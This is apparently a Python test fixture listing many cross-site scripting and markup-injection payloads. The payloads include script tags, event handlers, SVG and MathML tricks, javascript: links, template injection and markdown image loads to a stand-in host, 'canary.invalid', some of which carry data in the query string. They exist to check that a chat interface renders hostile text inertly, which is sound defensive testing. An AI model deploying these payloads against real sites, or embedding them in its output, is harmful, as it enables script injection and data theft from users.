"""Hostile text. Wherever a model, a provider or a user can write, none of it may do anything.

Each tries to set `window.__pwned`, to open a dialog, to reach CANARY, or to leave the place that
it is shown in. A test that shows one looks for all four. No payload swallows those after it, so
that joined by empty lines they are one text.
"""

from typing import Final

FLAG: Final = "__pwned"
"""The property of `window` that is set where a script ran."""

CANARY: Final = "canary.invalid"
"""A host that no page may ask for anything."""

SCRIPTS: Final = (
    "<script>window.__pwned=1</script>",
    "<ScRiPt/x>window.__pwned=1</sCrIpT >",
    "<script src=//canary.invalid/x.js></script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "</script><script>window.__pwned=1</script>",
    "<script type=module>window.__pwned=1</script>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<template><script>window.__pwned=1</script></template>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
)
HANDLERS: Final = (
    "<img src=x onerror=window.__pwned=1>",
    "<img/src='x'/onerror=window.__pwned=1//>",
    '<IMG """><script>window.__pwned=1</script>">',
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>x</details>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<marquee onstart=window.__pwned=1>x</marquee>",
    "<div style=animation-name:x onanimationstart=window.__pwned=1>x</div>",
    '" autofocus onfocus=window.__pwned=1 x="',
    "' onmouseover='window.__pwned=1' x='",
    '"><img src=x onerror=window.__pwned=1>',
    "'><svg/onload=window.__pwned=1>",
    "</textarea></title><img src=x onerror=window.__pwned=1>",
)
SVG_AND_MATHML: Final = (
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:window.__pwned=1"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x"></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></foreignObject></svg>',
    (
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph>"
        "</table></mtext></math>"
    ),
    '<math href="javascript:window.__pwned=1"><mi>x</mi></math>',
    (
        '<math><annotation-xml encoding="text/html"><script>window.__pwned=1</script>'
        "</annotation-xml></math>"
    ),
    "$\\href{javascript:window.__pwned=1}{x}$",
    "$\\text{<img src=x onerror=window.__pwned=1>}$",
    "$\\unicode{<script>window.__pwned=1</script>}$",
    "$$\n</math><img src=x onerror=window.__pwned=1>\n$$",
)
LINKS: Final = (
    "[x](javascript:window.__pwned=1)",
    "[x](JaVaScRiPt:window.__pwned=1)",
    "[x](java&#10;script:window.__pwned=1)",
    "[x](&#106;avascript&colon;window.__pwned=1)",
    "[x](\x01javascript:window.__pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[x](vbscript:msgbox(1))",
    "[x](https://canary.invalid/?a=1 \"' onmouseover='window.__pwned=1\")",
    "[x]: javascript:window.__pwned=1 'y'\n\n[x]",
    "<javascript:window.__pwned=1>",
    '<https://canary.invalid/"onmouseover="window.__pwned=1>',
    "https://canary.invalid/<img src=x onerror=window.__pwned=1>",
    "[<img src=x onerror=window.__pwned=1>](https://canary.invalid/)",
    '<a href="javascript:window.__pwned=1" target=_self>x</a>',
)
LOADS: Final = (
    "![words](https://canary.invalid/image.png?words=secret)",
    "![words][i]\n\n[i]: https://canary.invalid/reference.png",
    "![x](//canary.invalid/no-scheme.png)",
    "![x](\\\\\\\\canary.invalid\\\\x.png)",
    "![![x](https://canary.invalid/inner.png)](https://canary.invalid/outer.png)",
    "![x](javascript:window.__pwned=1)",
    '![x" onerror="window.__pwned=1](x)',
    "![x](data:image/svg+xml,<svg/onload=window.__pwned=1>)",
    "<img src=https://canary.invalid/html.png srcset='https://canary.invalid/set.png 2x'>",
    "<link rel=stylesheet href=https://canary.invalid/x.css>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    "<style>@import url(https://canary.invalid/import.css);body{display:none}</style>",
    '<p style="background:url(https://canary.invalid/style.png);position:fixed;inset:0">x</p>',
    "<iframe src=https://canary.invalid/></iframe>",
    "<object data=https://canary.invalid/x></object><embed src=https://canary.invalid/y>",
    "<video poster=https://canary.invalid/poster.png></video>",
    "<meta http-equiv=refresh content='0;url=https://canary.invalid/'>",
    "<base href=https://canary.invalid/>",
    "<form action=https://canary.invalid/><button>Send</button></form>",
    "<input type=image src=https://canary.invalid/button.png>",
)
MARKUP_OF_THE_SITE: Final = (
    '<div hx-get="/sidebar/" hx-trigger="load" hx-on::load="window.__pwned=1">x</div>',
    '<div data-action="stop" hx-post="/accounts/logout/" hx-trigger="load">x</div>',
    '<article id="message-1" data-role="assistant" data-status="streaming">x</article>',
    '<div data-open></div><div id="composer" class="visually-hidden">x</div>',
    "{{ request.user.password }}{% load static %}{% include 'base.html' %}{{ 7|add:7 }}",
    "${window.__pwned=1} #{7*7} <%= 7*7 %> {{constructor.constructor('window.__pwned=1')()}}",
)
CODE: Final = (
    '```"><script>window.__pwned=1</script>\n<script>window.__pwned=1</script>\n```',
    "```html\n<img src=x onerror=window.__pwned=1>\n</pre><svg onload=window.__pwned=1>\n```",
    "~~~js onload=window.__pwned=1\n</pre><svg onload=window.__pwned=1>\n~~~",
    "`<img src=x onerror=window.__pwned=1>`",
    (
        "| <script>window.__pwned=1</script> | x |\n| --- | --- |\n| `</td><img src=x onerror="
        'window.__pwned=1>` | " onmouseover="window.__pwned=1 |'
    ),
    "- [ ] <img src=x onerror=window.__pwned=1>\n- [x] </li></ul><svg onload=window.__pwned=1>",
    "> <img src=x\n> onerror=window.__pwned=1>",
    "# </h1><img src=x onerror=window.__pwned=1>",
)
CHARACTERS: Final = (
    "\u202egnp.exe <img src=x onerror=window.__pwned=1>\u202c",
    "\ufeff<\u200bscript>window.__pwned=1</script>",
    "<img src=x o\u0130nerror=window.__pwned=1>",
    "\x0b<img\x0csrc=x\x0conerror=window.__pwned=1>",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<!--><img src=x onerror=window.__pwned=1>-->",
    "<?x ><img src=x onerror=window.__pwned=1>?>",
    "\u2028<script>window.__pwned=1</script>\u2029",
)
PAYLOADS: Final = (
    *SCRIPTS,
    *HANDLERS,
    *SVG_AND_MATHML,
    *LINKS,
    *LOADS,
    *MARKUP_OF_THE_SITE,
    *CODE,
    *CHARACTERS,
)
LINES: Final = tuple(payload for payload in PAYLOADS if "\n" not in payload)
"""Those for fields of one line: titles, names."""

ALL_IN_ONE: Final = "\n\n".join(PAYLOADS)
